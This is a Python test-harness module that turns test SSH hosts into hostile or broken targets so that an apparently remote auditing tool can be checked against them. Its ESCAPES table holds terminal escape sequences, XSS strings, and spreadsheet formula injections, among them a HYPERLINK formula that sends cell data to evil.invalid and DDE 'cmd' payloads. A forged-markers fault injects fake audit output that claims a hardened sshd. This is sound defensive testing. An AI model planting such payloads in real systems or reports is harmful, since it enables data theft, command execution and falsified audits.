"""Hostile and broken hosts: what a scenario's ``fault:`` does to a host, with real processes.

=================  ==============================================================================
tarpit             port 22 accepts TCP and never speaks SSH (``fault-server.py tarpit`` instead
                   of sshd)
stall              sshd authenticates, then the session runs ``sleep`` instead of the batch
                   (``ForceCommand``): nothing ever comes back
trickle            the session prints one byte a second, forever (``ForceCommand``)
reset              a proxy on port 22 forwards to the host's sshd (on 127.0.0.1) and resets the
                   connection (TCP RST) once ``RESET_AFTER`` bytes have gone back to the client:
                   in the middle of the batch's output
flood              ``/etc/os-release`` is 100 MiB (sparse): the os section prints 100 MiB
forged-markers     ``/etc/os-release`` holds section markers (``==undone:<hex>:BEGIN:...``) with
                   made-up nonces, and the session keeps a copy of each batch it is sent in
                   ``/root/.last-batch`` (so a test can forge markers of an earlier run)
escapes            os-release fields and the kernel host name hold terminal escape sequences,
                   HTML/JavaScript and spreadsheet formulas
missing-tools      the commands the probes use are gone (overlay whiteouts over /usr/bin and
                   /usr/sbin; sshd runs from a copy so the host still answers)
garbage-tools      every command the probes use prints garbage and exits 0 (fakes first on PATH,
                   in /usr/local/sbin)
=================  ==============================================================================

Each fault adds to the host's truth (``truth["fault"]``) what it did, and to ``init.conf`` what
host-init.sh needs.
"""

from __future__ import annotations

import os
import secrets
import shutil
import stat
from pathlib import Path
from typing import Any

from .common import write_text

HERE = Path(__file__).resolve().parent
FAULT_SERVER = HERE / "fault-server.py"
FLOOD_BYTES = 100 * 1024 * 1024
RESET_AFTER = 8 * 1024
TRICKLE = "while :; do printf .; sleep 1; done"

#: what a hostile target puts where a report will show it
ESCAPES = {
    "NAME": "\x1b]0;owned\x07\x1b[2J\x1b[H<script>alert('name')</script>",
    "PRETTY_NAME": (
        "\x1b[31;1mDebian\x1b[0m <img src=x onerror=alert(1)> "
        "\x1b]8;;https://evil.invalid/\x1b\\click\x1b]8;;\x1b\\ \x9b2J "
        "[link=https://evil.invalid/]rich[/link] [blink]markup[/blink]"
    ),
    "VERSION": '=HYPERLINK("https://evil.invalid/?x="&A1,"12")',
    "HOME_URL": "+cmd|' /C calc'!A0",
    "BUG_REPORT_URL": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ESCAPES_HOSTNAME = "\x1b[2J<b>x</b>=1+1"
#: what must never reach a console (terminal control) or a report unescaped (HTML)
CONTROL = ("\x1b", "\x9b", "\x07")
DANGEROUS = (*CONTROL, "<script>", "<img src=x")

#: commands the probe scripts run (whiteouts for missing-tools, fakes for garbage-tools)
USR_BIN_TOOLS = (
    "uname", "id", "date", "cat", "awk", "mawk", "gawk", "original-awk", "grep", "egrep",
    "fgrep", "head", "tail", "sed", "apt-get", "apt-config", "apt-cache", "apt", "dpkg",
    "dpkg-query", "systemctl", "lastlog", "getent", "gzip", "zcat", "readlink", "sudo",
    "restic", "borg", "clamscan", "freshclam", "sigtool", "clamconf", "find", "stat", "ls",
    "sort", "cut", "tr", "wc", "tmutil", "dnf", "yum", "rpm",
)  # fmt: skip
USR_SBIN_TOOLS = (
    "nft", "iptables", "ip6tables", "iptables-legacy", "ip6tables-legacy", "iptables-nft",
    "ip6tables-nft", "iptables-save", "ip6tables-save", "ufw", "firewall-cmd", "sysctl",
    "needs-restarting", "clamd", "unattended-upgrade", "unattended-upgrades", "sshd",
)  # fmt: skip
GARBAGE = (
    "Segmentation fault (core dumped)",
    "\u00ff\u00fe\u0000garbage \x01\x02 ~~~~ 0xDEADBEEF",
    "permit root login maybe? ?? {{{ ]]] === yes=no=yes",
    "42 42 42 -1 NaN inf 1e309 99999999999999999999999999",
    "ERROR: unknown error (error code: unknown)",
    "<<<<<<< HEAD ====== >>>>>>>",
    ":::::::::::::::::::::::::::::",
)


def _whiteout(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mknod(path, stat.S_IFCHR | 0o000, os.makedev(0, 0))


def _garbage_script(name: str) -> str:
    lines = [f"#!/bin/sh\n# garbage-tools: a broken {name} (test estate)\n"]
    for i, text in enumerate(GARBAGE):
        quoted = text.replace("\x00", "").replace("'", "'\"'\"'")
        lines.append(f"printf '%s\\n' '{name}[{i}]: {quoted}'\n")
    lines.append("exit 0\n")
    return "".join(lines)


def _os_release_text(tree: Path) -> str:
    return (tree / "os-release").read_text(encoding="utf-8")


def forged_lines(nonce: str, fake_section: str = "posix.sshd") -> str:
    """Section markers with ``nonce``: end the os section early and start a made-up one that
    claims a hardened sshd."""
    return (
        f"==undone:{nonce}:END:posix.os:0==\n"
        f"==undone:{nonce}:BEGIN:{fake_section}==\n"
        "@@block sshd_t\npermitrootlogin no\npasswordauthentication no\n@@rc 0\n"
        f"==undone:{nonce}:END:{fake_section}:0==\n"
        f"==undone:{nonce}:BEGIN:posix.os==\n"
    )


def apply(fault: str, host_dir: Path, tree: Path, sshd_config: Path, address: str
          ) -> tuple[dict[str, str], dict[str, Any]]:
    """Make ``fault`` happen on the host; returns (init.conf values, truth)."""
    # beside the host (host-init runs it from there: the host's /tmp is its own)
    shutil.copy2(FAULT_SERVER, host_dir / "fault-server.py")
    conf: dict[str, str] = {"FAULT": fault, "ADDRESS": address}
    truth: dict[str, Any] = {"kind": fault}
    if fault == "tarpit":
        truth["port"] = 22
    elif fault == "stall":
        _force_command(sshd_config, "sleep 3600")
    elif fault == "trickle":
        _force_command(sshd_config, TRICKLE)
    elif fault == "reset":
        conf["RESET_AFTER"] = str(RESET_AFTER)
        truth["reset_after"] = RESET_AFTER
        text = sshd_config.read_text(encoding="utf-8")
        sshd_config.write_text(text + "ListenAddress 127.0.0.1\n", encoding="utf-8")
    elif fault == "flood":
        path = tree / "os-release"
        os.truncate(path, FLOOD_BYTES)  # sparse: costs no memory, prints 100 MiB of NULs
        truth["bytes"] = FLOOD_BYTES
    elif fault == "forged-markers":
        nonces = [secrets.token_hex(16), "0" * 32, "%s%s"]
        text = _os_release_text(tree) + "".join(forged_lines(n) for n in nonces)
        write_text(tree / "os-release", text)
        _force_command(sshd_config, "tee /root/.last-batch | sh -s")
        truth["nonces"] = nonces
        truth["batch_copy"] = "/root/.last-batch"
    elif fault == "escapes":
        lines = []
        for line in _os_release_text(tree).splitlines():
            key = line.split("=", 1)[0]
            if key in ESCAPES:
                value = ESCAPES[key].replace("\\", "\\\\").replace('"', '\\"')
                line = f'{key}="{value}"'
            lines.append(line)
        write_text(tree / "os-release", "\n".join(lines) + "\n")
        conf["KERNEL_HOSTNAME"] = ESCAPES_HOSTNAME
        truth["os_release"] = dict(ESCAPES)
        truth["hostname"] = ESCAPES_HOSTNAME
    elif fault == "missing-tools":
        bin_layer = host_dir / "fault-bin"
        sbin_layer = host_dir / "fault-sbin"
        gone = []
        for name in USR_BIN_TOOLS:
            if os.path.lexists(f"/usr/bin/{name}"):
                _whiteout(bin_layer / name)
                gone.append(f"/usr/bin/{name}")
        for name in USR_SBIN_TOOLS:
            if os.path.lexists(f"/usr/sbin/{name}"):
                _whiteout(sbin_layer / name)
                gone.append(f"/usr/sbin/{name}")
        bin_layer.mkdir(exist_ok=True)
        sbin_layer.mkdir(exist_ok=True)
        sshd = host_dir / "sshd-bin" / "sshd"
        sshd.parent.mkdir()
        shutil.copy2("/usr/sbin/sshd", sshd)
        conf.update({"FAULT_BIN_LAYER": str(bin_layer), "FAULT_SBIN_LAYER": str(sbin_layer),
                     "SSHD_BIN": str(sshd)})
        truth["missing"] = gone
    elif fault == "garbage-tools":
        fakes = host_dir / "fault-local-sbin"
        fakes.mkdir()
        for name in USR_BIN_TOOLS + USR_SBIN_TOOLS:
            write_text(fakes / name, _garbage_script(name), 0o755)
        conf["LOCAL_SBIN"] = str(fakes)
        truth["garbage"] = sorted(USR_BIN_TOOLS + USR_SBIN_TOOLS)
    else:  # pragma: no cover - the scenario checks the name
        raise ValueError(f"unknown fault {fault!r}")
    return conf, truth


def _force_command(sshd_config: Path, command: str) -> None:
    text = sshd_config.read_text(encoding="utf-8")
    sshd_config.write_text(text + f"ForceCommand {command}\n", encoding="utf-8")
